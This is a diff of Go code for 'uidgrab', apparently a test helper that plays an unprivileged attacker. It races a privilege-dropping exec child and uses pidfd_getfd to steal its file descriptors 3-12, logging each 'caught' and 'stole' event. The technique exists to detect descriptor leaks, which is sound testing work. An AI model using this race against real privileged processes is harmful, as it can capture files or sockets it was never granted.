@@ -368,16 +368,18 @@ func waitStopped(pid int) {
 // that exec is asked to run as, with no capabilities. Until STOP exists
 // it polls the pids after the last one for new processes; from the
 // moment one becomes its uid (kill(pid, 0) no longer EPERM: exec's child
-// after setresuid) it spins pidfd_getfd over that process's fds 3-31 for
-// up to 300 ms, or until the process is gone. The kernel lets it in
-// while the process is dumpable and holds no capability the attacker
-// lacks (ptrace_may_access, commoncap's subset rule): a child that
-// dropped its capabilities before it made itself non-dumpable again
-// hands its fds over. The program exec runs finally (USERPROG, after
-// its execve) has only its stdio: an fd above 2 there would be a leak,
-// and is reported too. Lines:
+// after setresuid) it spins pidfd_getfd over that process's fds 3-12 for
+// up to 300 ms, or until the process is gone (the program exec runs has
+// only its stdio after its execve: an fd above 2 there would be a leak,
+// reported too). The kernel lets it in while the process is dumpable
+// and holds no capability the attacker lacks (ptrace_may_access,
+// commoncap's subset rule): a child that dropped its capabilities before
+// it made itself non-dumpable again hands its fds over, if the attacker
+// asks within that gap (a race: it wins now and then, not every time).
+// Lines:
 //
 //	watching
+//	caught PID COMM         (COMM when it became ours)
 //	stole PID COMM FD TARGET
 //	watched N processes of uid U, stole M fds
 func uidgrab(args []string) error {
@@ -428,6 +430,7 @@ func uidgrab(args []string) error {
 				continue
 			}
 			watched++
+			fmt.Printf("caught %d %s\n", pid, comm(pid))
 			stole += grabSpin(pid)
 		}
 	}
@@ -435,7 +438,12 @@ func uidgrab(args []string) error {
 	return nil
 }
 
-// grabSpin tries pidfd_getfd on fds 3-31 of pid until one works, the
+func comm(pid int) string {
+	b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
+	return strings.TrimSpace(string(b))
+}
+
+// grabSpin tries pidfd_getfd on fds 3-12 of pid until one works, the
 // process is gone, or 300 ms have passed; it reports and counts what it
 // took.
 func grabSpin(pid int) int {
@@ -444,22 +452,20 @@ func grabSpin(pid int) int {
 		return 0 // gone, or a thread of some process
 	}
 	defer unix.Close(pfd)
-	got := 0
-	for start := time.Now(); time.Since(start) < 300*time.Millisecond && got == 0; {
-		for fd := 3; fd < 32; fd++ {
+	for start := time.Now(); time.Since(start) < 300*time.Millisecond; {
+		for fd := 3; fd <= 12; fd++ {
 			nfd, err := unix.PidfdGetfd(pfd, fd, 0)
 			if err == unix.ESRCH {
-				return got
+				return 0
 			}
 			if err != nil {
 				continue
 			}
 			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(nfd))
-			b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
-			fmt.Printf("stole %d %s %d %s\n", pid, strings.TrimSpace(string(b)), fd, strings.ReplaceAll(target, " ", "_"))
 			unix.Close(nfd)
-			got++
+			fmt.Printf("stole %d %s %d %s\n", pid, comm(pid), fd, strings.ReplaceAll(target, " ", "_"))
+			return 1
 		}
 	}
-	return got
+	return 0
 }
